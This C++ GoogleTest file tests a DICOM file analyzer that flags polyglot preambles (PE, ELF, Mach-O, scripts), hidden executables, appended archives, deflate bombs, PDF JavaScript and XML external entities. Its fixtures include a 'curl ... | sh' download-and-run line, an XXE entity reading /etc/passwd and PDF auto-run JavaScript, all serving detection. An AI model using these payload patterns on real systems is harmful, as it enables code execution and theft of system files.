#include "files/analyze.h"

#include <gtest/gtest.h>
#include <zlib.h>

#include <algorithm>
#include <set>

#include "analysis.h"
#include "polyglot.h"

using namespace dg::files;
using namespace dgtest;

namespace {
std::size_t header_size() { return 128 + 4 + meta().size(); }
}  // namespace

TEST(Analyze, CleanFileIsClean) {
  auto r = an(part10({}, dataset()));
  EXPECT_EQ(r.verdict, Verdict::clean) << all_output(r);
  EXPECT_TRUE(r.findings.empty());
  EXPECT_TRUE(r.parseable);
  EXPECT_EQ(r.fields["preamble"]["kind"], "zero");
}

TEST(Analyze, PePolyglotNamesThePayloadElement) {
  // CVE-2019-11687 proof-of-concept layout: MZ in the preamble, e_lfanew into an illegal (0009,0000) OB element
  // placed before group 0008.
  const std::uint32_t value_at = static_cast<std::uint32_t>(header_size() + 12);
  Bytes ds = el(0x0009, 0x0000, "OB", pe_body());
  append(ds, dataset());
  auto r = an(part10(mz_header(value_at), ds));
  EXPECT_EQ(r.verdict, Verdict::dangerous);
  const dg::Finding* f = first(r, "file.preamble.executable");
  ASSERT_NE(f, nullptr) << all_output(r);
  EXPECT_EQ(f->severity, dg::Severity::critical);
  EXPECT_EQ(f->evidence["format"], "PE");
  EXPECT_EQ(f->evidence["e_lfanew"], value_at);
  EXPECT_EQ(f->evidence["points"][0]["tag"], "(0009,0000)");
  EXPECT_EQ(f->evidence["points"][0]["element_offset"], header_size());
  const dg::Finding* p = first(r, "file.payload.executable");
  ASSERT_NE(p, nullptr);
  EXPECT_EQ(p->evidence["tag"], "(0009,0000)");
  // The illegal element is also a structure problem: out of order and a group length that is not UL.
  EXPECT_GE(ids(r).count("file.structure.invalid"), 2u);
  EXPECT_EQ(all_output(r).find("TEST^PATIENT"), std::string::npos);
}

TEST(Analyze, ElfPolyglotFollowsProgramHeaders) {
  const std::uint64_t value_at = header_size() + 12;
  Bytes ds = dataset(el(0x0029, 0x1010, "OB", Bytes(128, 0xCC)));  // private element holding the segment
  // The private element sits after (0028,0011): compute its value offset.
  Bytes before = dataset();
  const std::uint64_t priv_at = header_size() + (before.size() - el(0x7FE0, 0x10, "OW", Bytes(32, 0x11)).size()) + 12;
  (void)value_at;
  auto r = an(part10(elf_header(priv_at), ds));
  const dg::Finding* f = first(r, "file.preamble.executable");
  ASSERT_NE(f, nullptr) << all_output(r);
  EXPECT_EQ(f->evidence["format"], "ELF");
  bool named = false;
  for (auto& pt : f->evidence["points"]) named |= pt.value("tag", "") == "(0029,1010)";
  EXPECT_TRUE(named) << f->evidence.dump();
  EXPECT_EQ(r.verdict, Verdict::dangerous);
}

TEST(Analyze, MachOAndFatAndScriptPreambles) {
  auto r1 = an(part10(macho_header(4096), dataset()));
  ASSERT_NE(first(r1, "file.preamble.executable"), nullptr);
  EXPECT_EQ(first(r1, "file.preamble.executable")->evidence["format"], "Mach-O");
  auto r2 = an(part10(macho_fat_header(4096, 8192), dataset()));
  ASSERT_NE(first(r2, "file.preamble.executable"), nullptr);
  EXPECT_EQ(first(r2, "file.preamble.executable")->evidence["format"], "Mach-O universal");
  const std::string sh = "#!/bin/sh\ncurl -s http://127.0.0.1/x | sh\nexit 0\n";
  auto r3 = an(part10(Bytes(sh.begin(), sh.end()), dataset()));
  ASSERT_NE(first(r3, "file.preamble.executable"), nullptr);
  EXPECT_EQ(first(r3, "file.preamble.executable")->evidence["format"], "script");
  Bytes ole = {0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1};
  auto r4 = an(part10(ole, dataset()));
  ASSERT_NE(first(r4, "file.preamble.executable"), nullptr);
  EXPECT_EQ(first(r4, "file.preamble.executable")->evidence["format"], "OLE/MSI");
  Bytes java = {0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 52};
  auto r5 = an(part10(java, dataset()));
  ASSERT_NE(first(r5, "file.preamble.executable"), nullptr);
  EXPECT_EQ(first(r5, "file.preamble.executable")->evidence["format"], "Java class");
}

TEST(Analyze, ExecutableInsidePrivateElementAndFragment) {
  auto r = an(part10({}, dataset(el(0x0029, 0x1010, "OB", pe_image()))));
  const dg::Finding* f = first(r, "file.payload.executable");
  ASSERT_NE(f, nullptr) << all_output(r);
  EXPECT_EQ(f->evidence["tag"], "(0029,1010)");
  EXPECT_EQ(f->evidence["format"], "PE");
  EXPECT_EQ(r.verdict, Verdict::dangerous);

  Bytes px = el(0x7FE0, 0x10, "OB", {}, false, 0xFFFFFFFFu);
  append(px, item({}));
  Bytes frag = elf_header(0);
  frag.resize(128, 0);
  append(px, item(frag));
  append(px, seq_delim());
  Bytes ds;
  append(ds, el(8, 0x16, "UI", str(kSopClass, '\0')));
  append(ds, el(8, 0x18, "UI", str(kSopInstance, '\0')));
  append(ds, px);
  auto r2 = an(part10({}, ds, meta("1.2.840.10008.1.2.4.50")));
  const dg::Finding* g = first(r2, "file.payload.executable");
  ASSERT_NE(g, nullptr) << all_output(r2);
  EXPECT_EQ(g->evidence["location"], "pixel data fragment");
  EXPECT_EQ(g->evidence["tag"], "(7FE0,0010)");
}

TEST(Analyze, RandomPixelDataWithMzBytesIsNotAnExecutable) {
  Bytes noise(4096);
  std::uint32_t x = 12345;
  for (auto& b : noise) { x = x * 1103515245 + 12345; b = static_cast<std::uint8_t>(x >> 16); }
  for (std::size_t i = 0; i < noise.size(); i += 97) { noise[i] = 'M'; noise[i + 1] = 'Z'; }
  auto r = an(part10({}, dataset(el(0x0029, 0x1010, "OB", noise))));
  EXPECT_EQ(first(r, "file.payload.executable"), nullptr) << all_output(r);
  EXPECT_EQ(r.verdict, Verdict::clean);
}

TEST(Analyze, ZipAppendedAfterPixelData) {
  Bytes f = part10({}, dataset());
  const std::uint32_t at = static_cast<std::uint32_t>(f.size());
  append(f, zip_archive(at));
  auto r = an(f);
  const dg::Finding* t = first(r, "file.trailing-data");
  ASSERT_NE(t, nullptr) << all_output(r);
  EXPECT_EQ(t->evidence["offset"], at);
  EXPECT_EQ(t->evidence["length"], f.size() - at);
  ASSERT_NE(first(r, "file.payload.archive"), nullptr);
  EXPECT_EQ(r.verdict, Verdict::dangerous);
  EXPECT_EQ(ids(r).count("file.structure.invalid"), 0u);
  EXPECT_TRUE(r.parseable);
}

TEST(Analyze, ExecutableAfterTheDataset) {
  Bytes f = part10({}, dataset());
  const std::size_t at = f.size();
  append(f, pe_image());
  auto r = an(f);
  ASSERT_NE(first(r, "file.trailing-data"), nullptr);
  const dg::Finding* p = first(r, "file.payload.executable");
  ASSERT_NE(p, nullptr);
  EXPECT_EQ(p->evidence["offset"], at);
  EXPECT_EQ(p->evidence["location"], "after the dataset");
}

TEST(Analyze, PreambleKinds) {
  Bytes junk(128);
  for (int i = 0; i < 128; ++i) junk[i] = static_cast<std::uint8_t>(i * 7 + 1);
  auto r = an(part10(junk, dataset()));
  EXPECT_EQ(ids(r), std::multiset<std::string>{"file.preamble.nonzero"});
  EXPECT_EQ(r.verdict, Verdict::suspicious);

  Bytes sparse(128, 0);
  sparse[17] = 1;  // seen in real vendor files
  auto r2 = an(part10(sparse, dataset()));
  EXPECT_TRUE(r2.findings.empty());
  EXPECT_EQ(r2.fields["preamble"]["kind"], "sparse");

  Bytes tiff = {'I', 'I', 42, 0, 8, 0, 0, 0};
  auto r3 = an(part10(tiff, dataset()));
  EXPECT_EQ(ids(r3), std::multiset<std::string>{"file.preamble.tiff"});
  EXPECT_EQ(r3.verdict, Verdict::clean);
  Bytes bigtiff = {'M', 'M', 0, 43, 0, 8, 0, 0};
  auto r4 = an(part10(bigtiff, dataset()));
  EXPECT_EQ(first(r4, "file.preamble.tiff")->evidence["format"], "BigTIFF");
}

TEST(Analyze, MetaProblems) {
  auto problems = [](const FileReport& r) {
    std::set<std::string> s;
    for (auto& f : r.findings)
      if (f.check == "file.meta.invalid") s.insert(f.evidence["problem"].get<std::string>());
    return s;
  };
  // Wrong group length.
  Bytes m = meta();
  m[8] += 2;
  auto r1 = an(part10({}, dataset(), m));
  EXPECT_TRUE(problems(r1).count("group-length-value")) << all_output(r1);
  // Unknown transfer syntax.
  auto r2 = an(part10({}, dataset(), meta("1.2.3.4.5.6")));
  EXPECT_EQ(problems(r2), std::set<std::string>{"transfer-syntax-unknown"});
  // Media storage instance UID differs from (0008,0018).
  auto r3 = an(part10({}, dataset(), meta("1.2.840.10008.1.2.1", kSopClass, "1.2.3.999")));
  EXPECT_EQ(problems(r3), std::set<std::string>{"sop-instance-mismatch"});
  EXPECT_EQ(r3.verdict, Verdict::malformed);
  // Missing transfer syntax: the dataset encoding is guessed and still checked.
  Bytes body;
  append(body, el(2, 1, "OB", Bytes{0, 1}));
  append(body, el(2, 2, "UI", str(kSopClass, '\0')));
  append(body, el(2, 3, "UI", str(kSopInstance, '\0')));
  Bytes m4 = grouped(2, body);
  auto r4 = an(part10({}, dataset(), m4));
  EXPECT_EQ(problems(r4), std::set<std::string>{"transfer-syntax-missing"});
  EXPECT_TRUE(r4.parseable);
  // Meta encoded implicit VR.
  Bytes body5 = iel(2, 0x10, str("1.2.840.10008.1.2.1", '\0'));
  Bytes m5 = grouped(2, body5, dg::dicom::kImplicitLittle);
  auto r5 = an(part10({}, dataset(), m5));
  EXPECT_TRUE(problems(r5).count("encoding")) << all_output(r5);
}

TEST(Analyze, NotDicomAndRawDataset) {
  const std::string text = "hello, this is a text file and not an image at all, even if it is long enough to have "
                           "a byte at offset 128 ....................................................";
  auto r = an(Bytes(text.begin(), text.end()));
  EXPECT_EQ(r.verdict, Verdict::not_dicom);
  EXPECT_EQ(ids(r), std::multiset<std::string>{"file.not-dicom"});
  auto r2 = an(dataset());
  EXPECT_EQ(r2.verdict, Verdict::malformed);
  ASSERT_NE(first(r2, "file.meta.invalid"), nullptr);
  EXPECT_EQ(first(r2, "file.meta.invalid")->evidence["problem"], "no-meta");
  EXPECT_EQ(an(Bytes{}).verdict, Verdict::not_dicom);
}


TEST(Analyze, DeflatedDatasetIsInflatedAndChecked) {
  const std::string ts = "1.2.840.10008.1.2.1.99";
  auto r = an(part10({}, deflate_raw(dataset()), meta(ts)));
  EXPECT_EQ(r.verdict, Verdict::clean) << all_output(r);
  EXPECT_EQ(r.fields["deflated"]["inflated"], dataset().size());
  // A bomb: 64 MiB of zeros inflated with a 1 MiB cap.
  Bytes zeros(64u << 20, 0);
  AnalyzeOptions o;
  o.max_inflated = 1u << 20;
  auto r2 = an(part10({}, deflate_raw(zeros), meta(ts)), o);
  bool limit = false;
  for (auto& f : r2.findings) limit |= f.check == "file.structure.invalid" && f.evidence["problem"] == "deflate-limit";
  EXPECT_TRUE(limit) << all_output(r2);
  // A private element inside the deflated dataset still gets its payload scan.
  auto r3 = an(part10({}, deflate_raw(dataset(el(0x0029, 0x1010, "OB", pe_image()))), meta(ts)));
  ASSERT_NE(first(r3, "file.payload.executable"), nullptr);
}

TEST(Analyze, EncapsulatedPdfWithJavaScript) {
  const std::string pdf =
      "%PDF-1.7\n1 0 obj << /Type /Catalog /OpenAction 2 0 R >> endobj\n2 0 obj << /S /JavaScript /JS (app.alert(1)) >> "
      "endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n";
  Bytes doc;
  append(doc, el(0x0042, 0x0011, "OB", str(pdf, '\0')));
  append(doc, el(0x0042, 0x0012, "LO", str("application/pdf")));
  Bytes ds;
  append(ds, el(8, 0x16, "UI", str("1.2.840.10008.5.1.4.1.1.104.1", '\0')));
  append(ds, el(8, 0x18, "UI", str(kSopInstance, '\0')));
  append(ds, doc);
  auto r = an(part10({}, ds, meta("1.2.840.10008.1.2.1", "1.2.840.10008.5.1.4.1.1.104.1")));
  const dg::Finding* f = first(r, "file.encapsulated.active");
  ASSERT_NE(f, nullptr) << all_output(r);
  EXPECT_EQ(f->evidence["counts"]["/JavaScript"], 1);
  EXPECT_EQ(f->evidence["counts"]["/JS"], 1);
  EXPECT_EQ(f->evidence["counts"]["/OpenAction"], 1);
  EXPECT_EQ(r.verdict, Verdict::dangerous);

  // Declared PDF, content XML: MIME mismatch.
  Bytes ds2;
  append(ds2, el(8, 0x16, "UI", str("1.2.840.10008.5.1.4.1.1.104.1", '\0')));
  append(ds2, el(8, 0x18, "UI", str(kSopInstance, '\0')));
  append(ds2, el(0x0042, 0x0011, "OB", str("<?xml version=\"1.0\"?><ClinicalDocument/>", '\0')));
  append(ds2, el(0x0042, 0x0012, "LO", str("application/pdf")));
  auto r2 = an(part10({}, ds2, meta("1.2.840.10008.1.2.1", "1.2.840.10008.5.1.4.1.1.104.1")));
  const dg::Finding* g = first(r2, "file.encapsulated.active");
  ASSERT_NE(g, nullptr) << all_output(r2);
  EXPECT_EQ(g->evidence["problem"], "mime-mismatch");
}

TEST(Analyze, CdaWithExternalEntity) {
  const std::string xml = "<?xml version=\"1.0\"?>\n<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>\n"
                          "<ClinicalDocument>&e;</ClinicalDocument>\n";
  Bytes ds;
  append(ds, el(8, 0x16, "UI", str("1.2.840.10008.5.1.4.1.1.104.2", '\0')));
  append(ds, el(8, 0x18, "UI", str(kSopInstance, '\0')));
  append(ds, el(0x0042, 0x0011, "OB", str(xml, '\0')));
  append(ds, el(0x0042, 0x0012, "LO", str("text/xml")));
  auto r = an(part10({}, ds, meta("1.2.840.10008.1.2.1", "1.2.840.10008.5.1.4.1.1.104.2")));
  const dg::Finding* f = first(r, "file.encapsulated.active");
  ASSERT_NE(f, nullptr) << all_output(r);
  EXPECT_EQ(f->evidence["counts"]["<!DOCTYPE"], 1);
  EXPECT_EQ(f->evidence["counts"]["<!ENTITY"], 1);
}

TEST(Analyze, TruncatedFileIsMalformedNotTrailing) {
  Bytes f = part10({}, dataset());
  f.resize(f.size() - 10);  // cut inside the pixel data value
  auto r = an(f);
  const dg::Finding* s = first(r, "file.structure.invalid");
  ASSERT_NE(s, nullptr) << all_output(r);
  EXPECT_EQ(s->evidence["problem"], "length-past-end");
  EXPECT_EQ(s->evidence["tag"], "(7FE0,0010)");
  EXPECT_EQ(r.verdict, Verdict::malformed);
  EXPECT_FALSE(r.parseable);
}

TEST(Analyze, EveryPrefixOfAFileIsHandled) {
  // Truncation at every byte: a verdict every time, never a crash.
  Bytes ds = dataset(el(0x0029, 0x1010, "OB", pe_image()));
  Bytes f = part10(mz_header(300), ds);
  for (std::size_t n = 0; n <= f.size(); ++n) {
    Bytes p(f.begin(), f.begin() + static_cast<long>(n));
    auto r = an(p);
    EXPECT_NE(r.verdict, Verdict::error);
  }
}
